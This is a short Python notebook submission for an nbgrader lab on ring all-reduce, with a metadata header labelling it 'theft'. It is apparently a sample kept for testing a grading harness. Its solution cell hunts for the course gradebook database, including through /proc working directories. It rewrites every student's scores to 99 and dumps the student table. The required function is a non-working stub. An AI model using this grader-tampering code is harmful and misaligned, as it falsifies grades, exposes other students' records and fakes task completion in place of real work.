# /// shardlab-submission
# lab = "03_ring_all_reduce"
# kind = "theft"
# tries = "the gradebook opened to read and to write, directly and as nbgrader does"
# seen_by = "loot"
# state = "graded"
# ///
# %% nbgrader={"grade_id": "chunk_bounds", "solution": true}
import glob, sqlite3
paths = ["@COURSE@/grading/gradebook.db", "gradebook.db", "../gradebook.db", "../../gradebook.db"]
for below in ("", "*/", "*/*/"):
    paths += glob.glob(f"/proc/[0-9]*/cwd/{below}gradebook.db")
for path in paths:
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as db:
            db.execute("update grade set manual_score = 99, auto_score = 99")
            print("LO" "OT:", path)
    except sqlite3.Error:
        pass
try:
    from sqlalchemy import create_engine, text
    with create_engine("sqlite:///@COURSE@/grading/gradebook.db").connect() as book:
        print("LO" "OT:", book.execute(text("select * from student")).all())
except Exception:
    pass

def chunk_bounds(length, world_size):
    return [(0, length)] * world_size
